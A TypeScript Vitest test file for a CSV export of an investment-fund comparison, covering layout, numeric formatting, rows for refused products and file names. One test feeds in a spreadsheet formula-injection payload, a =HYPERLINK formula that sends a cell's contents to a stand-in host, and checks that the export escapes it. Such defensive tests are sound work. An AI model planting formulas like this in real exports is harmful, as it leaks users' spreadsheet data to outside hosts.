import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { STAT_IDS, type StatId } from '../constants.js';
import { comparisonCsv, comparisonFileName, type ComparisonCsvLabels } from './comparison-csv.js';
import { comparedProduct, comparisonResponse, refusedProduct } from './testing/comparison-response.js';

const LABELS: ComparisonCsvLabels = {
  product: 'Product',
  productId: 'Product ID',
  sections: {
    keyFacts: 'Key facts',
    statistics: 'Statistics over the common period',
    yearlyReturns: 'Calendar-year returns',
    correlations: 'Correlations',
    refused: 'Not shown',
  },
  keyFacts: {
    currency: 'Currency',
    isin: 'ISIN',
    inception: 'Inception date',
    aum: 'Assets under management',
    lastPrice: 'Last price',
    lastDate: 'Date of the last price',
    benchmark: 'Benchmark',
  },
  window: { startDate: 'From', endDate: 'To', returns: 'Returns' },
  stats: Object.fromEntries(STAT_IDS.map((id) => [id, `stat:${id}`])) as Record<StatId, string>,
  refusedStatus: { 401: 'Sign in to see it', 403: 'No access', 404: 'Unknown product' },
};

/** The file as a spreadsheet reads it back: cells as text, no type guessing. */
const cells = (csv: string): string[][] =>
  Papa.parse<string[]>(csv, { header: false, skipEmptyLines: false }).data;

const rowOf = (table: string[][], label: string): string[] | undefined =>
  table.find((row) => row[0] === label);

const alpha = comparedProduct({
  productId: 'alpha',
  name: 'Alpha Equity',
  stats: { cumulativeReturn: -0.1234, maximumDrawdown: 0.2262, beta: 0.91 },
  benchmark: { symbol: 'msci-world', name: 'MSCI World' },
});
const beta = comparedProduct({ productId: 'beta', name: 'Beta Bonds', start: '2020-03', months: 80 });

describe('comparisonCsv', () => {
  it('writes a column per compared product and the page’s sections, one under the other', () => {
    const table = cells(comparisonCsv(comparisonResponse([alpha, beta]), LABELS));
    expect(table[0]).toEqual(['Product', 'Alpha Equity', 'Beta Bonds']);
    expect(rowOf(table, 'Product ID')).toEqual(['Product ID', 'alpha', 'beta']);
    for (const title of [
      'Key facts',
      'Statistics over the common period',
      'Calendar-year returns',
      'Correlations',
    ])
      expect(rowOf(table, title), title).toEqual([title, '', '']);
    // Statistics in the catalogue's order, every one of them.
    const names = table.map((r) => r[0]).filter((c) => c?.startsWith('stat:'));
    expect(names).toEqual(STAT_IDS.map((id) => `stat:${id}`));
    expect(rowOf(table, 'Benchmark')).toEqual(['Benchmark', 'MSCI World', '']);
    expect(rowOf(table, 'Management fee')).toEqual(['Management fee', '0.85%', '0.85%']);
    // The years of either product, newest first; a year only one has is empty for the other.
    const years = table.filter((r) => /^\d{4}$/.test(r[0] ?? ''));
    expect(years.map((r) => r[0])).toEqual(['2026', '2025', '2024', '2023', '2022', '2021', '2020', '2019']);
    expect(years.at(-1)?.[2]).toBe('');
    // The correlation matrix: 1 on the diagonal, the pair's value both ways.
    expect(rowOf(table, 'Alpha Equity')).toEqual(['Alpha Equity', '1', '0.9']);
    expect(rowOf(table, 'Beta Bonds')).toEqual(['Beta Bonds', '0.9', '1']);
  });

  it('keeps numbers numbers: raw fractions, negative ones without a prefix, a drawdown as the loss it is', () => {
    const csv = comparisonCsv(comparisonResponse([alpha, beta]), LABELS);
    const table = cells(csv);
    expect(rowOf(table, 'stat:cumulativeReturn')?.[1]).toBe('-0.1234');
    expect(rowOf(table, 'stat:maximumDrawdown')?.[1]).toBe('-0.2262');
    expect(rowOf(table, 'stat:beta')?.[1]).toBe('0.91');
    expect(csv).toContain('\r\nstat:cumulativeReturn,-0.1234,');
    expect(csv).not.toContain("'-0.1234");
    expect(rowOf(table, 'Assets under management')?.slice(1)).toEqual(['125400000', '125400000']);
    expect(rowOf(table, 'Inception date')?.slice(1)).toEqual(['2019-01-31', '2020-03-31']);
    // A negative calendar year is a plain negative number too.
    const losing = { ...beta, yearlyReturns: [{ year: 2022, lastDate: '2022-12-30', value: -0.0731 }] };
    const years = cells(comparisonCsv(comparisonResponse([alpha, losing]), LABELS));
    expect(rowOf(years, '2022')?.[2]).toBe('-0.0731');
  });

  it('neutralises formula-like texts: a product named =HYPERLINK(...), a detail, a benchmark', () => {
    const evil = comparedProduct({
      productId: 'evil',
      name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      details: [{ key: '@SUM(1+1)', value: '+41 44 000 00 00' }],
      benchmark: { symbol: 'b', name: '-2+3' },
    });
    const csv = comparisonCsv(comparisonResponse([alpha, evil]), LABELS);
    const table = cells(csv);
    expect(table[0]?.[2]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
    expect(rowOf(table, "'@SUM(1+1)")?.[2]).toBe("'+41 44 000 00 00");
    expect(rowOf(table, 'Benchmark')?.[2]).toBe("'-2+3");
    // In the correlations' first column too: no cell of the file starts a formula.
    for (const row of table) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+@\t\r]/);
    expect(table.flat().filter((c) => c.startsWith('-') && !/^-\d/.test(c))).toEqual([]);
  });

  it('names a refused product by its id and status only: none of its data', () => {
    const answer = comparisonResponse([
      alpha,
      refusedProduct('secret-fund', 403),
      beta,
      refusedProduct('gone', 404),
    ]);
    const csv = comparisonCsv(answer, LABELS);
    const table = cells(csv);
    expect(table[0]).toEqual(['Product', 'Alpha Equity', 'Beta Bonds']);
    const refused = table.slice(table.findIndex((r) => r[0] === 'Not shown'));
    expect(refused).toEqual([
      ['Not shown', '', ''],
      ['secret-fund', '403', 'No access'],
      ['gone', '404', 'Unknown product'],
    ]);
    // The id appears once, in its refusal row; the reason code of the gate does not.
    expect(csv.split('secret-fund')).toHaveLength(2);
    expect(csv).not.toContain('investorProfile');
  });

  it('writes only the refusals when every product is refused, still three columns wide', () => {
    const table = cells(
      comparisonCsv(comparisonResponse([refusedProduct('a', 401), refusedProduct('b')]), LABELS),
    );
    expect(table).toEqual([
      ['Product', '', ''],
      ['Product ID', '', ''],
      [''],
      ['Not shown', '', ''],
      ['a', '401', 'Sign in to see it'],
      ['b', '403', 'No access'],
    ]);
  });

  it('leaves a product with no statistics empty where it has none, never 0', () => {
    const empty = comparedProduct({ productId: 'young', name: 'Young Fund', months: 1 });
    const none = {
      ...empty,
      window: null,
      yearlyReturns: [],
      statistics: {
        ...empty.statistics,
        periods: [
          {
            period: 'max' as const,
            fund: {
              period: 'max' as const,
              available: false as const,
              reason: 'insufficientHistory' as const,
            },
            aligned: null,
          },
        ],
        cells: [],
      },
      keyFacts: { ...empty.keyFacts, aum: null, isin: null, lastPrice: null, details: [] },
    };
    const table = cells(comparisonCsv(comparisonResponse([alpha, none]), LABELS));
    for (const id of STAT_IDS) expect(rowOf(table, `stat:${id}`)?.[2], id).toBe('');
    expect(rowOf(table, 'From')?.[2]).toBe('');
    expect(rowOf(table, 'Returns')?.[2]).toBe('');
    expect(rowOf(table, 'Assets under management')?.[2]).toBe('');
    expect(rowOf(table, 'ISIN')?.[2]).toBe('');
  });

  it('leaves out the correlations of a single compared product and the years nobody has', () => {
    const lone = { ...alpha, yearlyReturns: [] };
    const table = cells(comparisonCsv(comparisonResponse([lone, refusedProduct('x')]), LABELS));
    expect(rowOf(table, 'Correlations')).toBeUndefined();
    expect(rowOf(table, 'Calendar-year returns')).toBeUndefined();
    expect(table[0]).toEqual(['Product', 'Alpha Equity', '']);
  });
});

describe('comparisonFileName', () => {
  it('names the period and the date the figures reach, in safe characters', () => {
    const answer = comparisonResponse([alpha, beta]);
    expect(comparisonFileName(answer, 'csv')).toBe('comparison-common-2026-10-31.csv');
    expect(comparisonFileName({ ...answer, period: '36m' }, 'pdf')).toBe('comparison-36m-2026-10-31.pdf');
  });

  it('takes the latest last price without a common range, and no date without any price', () => {
    const answer = comparisonResponse([alpha, beta], { common: null });
    expect(comparisonFileName(answer, 'csv')).toBe('comparison-common-2026-10-31.csv');
    expect(comparisonFileName(comparisonResponse([refusedProduct('a')]), 'csv')).toBe(
      'comparison-common.csv',
    );
  });
});
